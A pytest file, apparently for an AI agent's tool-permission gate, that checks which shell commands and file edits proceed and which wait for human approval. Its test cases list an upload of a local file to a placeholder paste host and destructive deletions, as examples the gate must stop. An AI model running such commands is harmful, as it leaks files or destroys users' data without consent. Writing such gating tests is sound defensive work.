"""Work on files after untrusted text: what goes on, and what waits for a person."""

from typing import Any

import msgspec
import pytest

from holdfast.core.builtin_tools import BUILTIN_TOOLS
from holdfast.core.place import Place, folder_fault
from holdfast.core.risk.registry import assess
from holdfast.core.workplace import (
    gate_work,
    is_work,
    leaves_stale,
    written,
)

TOOLS = {contract.name: contract for contract in BUILTIN_TOOLS}
SHOP = Place(folder="/data/ann/shop", own=True)
CLONE = Place(folder="/data/ann/shop")
FETCHED = Place(folder="/data/ann/shop", stale=True, own=True)
HELD = Place(folder="/data/ann/shop", stale=True, sandboxed=True)


def codes(tool: str, place: Place = SHOP, **arguments: Any) -> list[str]:
    contract = TOOLS[tool]
    risk = assess(contract, tool, arguments, place.folder)
    return [r.code for r in gate_work(contract, arguments, risk, place, "Read")]


def sh(command: str, place: Place = SHOP, **more: Any) -> list[str]:
    return codes("Bash", place, command=command, **more)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "cat src/cart.py | head -20",
        "grep -rn total src",
        "git status && git diff",
        "echo checked",
        "sed -i s/old/new/ src/cart.py",
        "mkdir -p build && cp a.py build/a.py",
        "echo x > notes.md",
        "mv cart.py basket.py",
        "git add -A && git commit -m 'rename the cart'",
        "echo x > /tmp/scratch.txt",
        "cd src && touch new.py",
        "pytest -q",
        "./run-tests.sh",
        "git fetch origin",
        "gh pr view 7 --comments",
        "python -c 'print(1 + 1)'",
        "curl -s http://localhost:8000/health",
        "npm ci",
    ],
)
@pytest.mark.parametrize("place", [SHOP, HELD])
def test_reading_writing_in_the_folder_and_code_as_it_was_go_on(command, place):
    assert sh(command, place) == []


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("echo x > /data/ann/other/notes.md", "flow.acts_outside"),
        ("cp a.py ../other/a.py", "flow.acts_outside"),
        ("cd /data/ann/site && touch index.html", "flow.acts_outside"),
        ("cd ../site && touch index.html", "flow.acts_outside"),
        ("pushd ../site; mkdir a", "flow.acts_outside"),
        ("cd .. && touch index.html", "flow.acts_outside"),
        ("touch ~/notes.md", "flow.acts_outside"),
        ("touch $WHERE/notes.md", "flow.outside_folder"),
        ("rm cart.py", "flow.destroys"),
        ("rm -rf src", "flow.acts_outside"),
        ("git push origin main", "flow.acts_outside"),
        ("curl -d @a.txt https://paste.example", "flow.acts_outside"),
        ("gh pr merge 7", "flow.acts_outside"),
        ("npm publish", "flow.acts_outside"),
        ("python -c 'import os; os.remove(\"a\")'", "flow.runs_written"),
    ],
)
def test_what_leaves_destroys_or_lies_outside_waits(command, code):
    assert sh(command) == [code]


@pytest.mark.parametrize("command", ["pytest -q", "./run.sh", "make", "some-unknown-tool x"])
def test_what_was_written_or_fetched_since_runs_in_a_sandbox_alone(command):
    assert sh(command, FETCHED) == ["flow.runs_written"]
    assert sh(command, HELD) == []
    assert sh(command, HELD, dangerouslyDisableSandbox=True) == ["flow.runs_written"]


@pytest.mark.parametrize(
    "command", ["pytest -q", "./run.sh", "make", "npm ci", "pip install -e .", "sh setup.sh"]
)
def test_code_that_nobody_vouched_for_runs_in_a_sandbox_alone(command):
    assert sh(command, CLONE) == ["flow.runs_others"]
    held = msgspec.structs.replace(CLONE, sandboxed=True)
    assert sh(command, held) == []
    assert sh(command, held, dangerouslyDisableSandbox=True) == ["flow.runs_others"]
    assert sh(command) == []


@pytest.mark.parametrize("command", ["cat setup.sh", "git log -3", "sed -i s/a/b/ a.py", "echo x"])
def test_what_runs_none_of_it_goes_on_in_a_strangers_clone(command):
    assert sh(command, CLONE) == []


@pytest.mark.parametrize("command", ["npm ci", "pip install -e ."])
def test_what_was_written_since_is_not_installed_unheld(command):
    assert sh(command, FETCHED) == ["flow.runs_written"]


@pytest.mark.parametrize("place", [FETCHED, CLONE])
def test_what_reads_code_and_runs_none_goes_on(place):
    assert sh("ruff check src && ruff format --check src | tail -3", place) == []
    assert sh("npm audit; npm ls left-pad 2>&1 | head -5", place) == []
    assert sh("pip list && pip show x", place) == []


@pytest.mark.parametrize(
    "command",
    [
        "ruff check src && pytest -q",
        "npm ls; npm test",
        "ruff check $(make list)",
        "python -m ruff check src",
        "".join(f"ruff check a{n}.py; " for n in range(220)) + "make",
    ],
)
def test_a_linter_takes_no_other_program_along(command):
    assert sh(command, FETCHED) == ["flow.runs_written"]
    assert sh(command, CLONE) == ["flow.runs_others"]


@pytest.mark.parametrize(
    "command", ["rm cart.py", "git push", "curl https://x.example", "rm -rf /data/ann/shop"]
)
def test_a_sandbox_excuses_nothing_that_leaves_or_destroys(command):
    assert sh(command, HELD) != []


def test_a_file_that_the_session_made_may_go():
    made = msgspec.structs.replace(SHOP, made=frozenset({"/data/ann/shop/tmp/a.py"}))
    assert sh("rm tmp/a.py", made) == []
    assert sh("rm tmp/b.py", made) == ["flow.destroys"]
    assert sh("rm tmp/*", made) == ["flow.destroys"]


@pytest.mark.parametrize("tool", ["Write", "Edit"])
@pytest.mark.parametrize(
    ("path", "asked"),
    [
        ("/data/ann/shop/src/cart.py", []),
        ("src/cart.py", []),
        ("/data/ann/shop/../other/cart.py", ["flow.outside_folder"]),
        ("/data/ann/shopping/cart.py", ["flow.outside_folder"]),
        ("../other/cart.py", ["flow.outside_folder"]),
        ("~/cart.py", ["flow.outside_folder"]),
    ],
)
def test_a_file_tool_writes_within_the_folder(tool, path, asked):
    text: dict[str, Any] = {"content": "x", "old_string": "a", "new_string": "b"}
    assert codes(tool, file_path=path, **text) == asked


@pytest.mark.parametrize("folder", ["", "/", "/home", "/root", "/tmp"])
def test_without_a_folder_of_its_own_nothing_is_inside(folder):
    place = Place(folder=folder)
    assert codes("Write", place, file_path=f"{folder}/a.py", content="x") == ["flow.outside_folder"]
    assert sh("echo x > a.py", place) in (["flow.outside_folder"], ["flow.acts_outside"])
    assert sh("ls -la", place) == []


@pytest.mark.parametrize("folder", ["src", "/a/../b", "/a/", "/a//b", "/a\nb", "/" + "a" * 5_000])
def test_a_folder_is_spelt_in_one_way(folder):
    assert folder_fault(folder)
    assert not folder_fault("/data/ann/shop")
    assert not folder_fault("")


def test_what_was_read_before_it_was_written_or_fetched_is_what_makes_a_folder_stale():
    def stale(tool: str, *, tainted: bool, **arguments: Any) -> bool:
        return leaves_stale(TOOLS[tool], assess(TOOLS[tool], tool, arguments), tainted=tainted)

    edit = {"file_path": "/a", "old_string": "a", "new_string": "b"}
    assert stale("Edit", tainted=True, **edit)
    assert not stale("Edit", tainted=False, **edit)
    assert stale("Bash", tainted=True, command="echo x > run.sh")
    assert not stale("Bash", tainted=False, command="echo x > run.sh")
    assert not stale("Bash", tainted=True, command="pytest -q")
    assert not stale("Read", tainted=True, file_path="/a")
    for command in ("curl -o a https://x.example", "git pull", "npx tool"):
        assert stale("Bash", tainted=False, command=command)


def test_what_a_call_is_seen_to_write():
    def of(tool: str, **arguments: Any) -> list[str]:
        return written(TOOLS[tool], arguments, assess(TOOLS[tool], tool, arguments))

    assert of("Write", file_path="/s/a", content="x") == ["/s/a"]
    assert of("Bash", command="echo x > a; touch b") == ["a", "b"]
    assert of("Bash", command="rm a") == []
    assert of("Read", file_path="/s/a") == []


def test_only_shells_and_tools_that_write_a_named_file_are_judged_by_place():
    assert {name for name, contract in TOOLS.items() if is_work(contract)} == {
        "Bash",
        "Monitor",
        "Write",
        "Edit",
        "MultiEdit",
        "NotebookEdit",
    }
    assert not is_work(None)


@pytest.mark.parametrize("command", ["rm -rf build", "rm -rf ./*.egg-info dist", "rmdir scripts"])
def test_what_builds_leave_and_empty_folders_may_go(command):
    assert sh(command) == []


@pytest.mark.parametrize("command", ["rm -rf build src", "rmdir a; rm cart.py", "find . -delete"])
def test_what_is_more_than_that_may_not(command):
    assert sh(command) != []


def test_a_file_that_the_session_made_may_go_and_another_beside_it_may_not():
    made = msgspec.structs.replace(SHOP, made=frozenset({"/data/ann/shop/a.py"}))
    assert sh("rm a.py", made) == []
    assert sh("rm a.py b.py", made) == ["flow.destroys"]
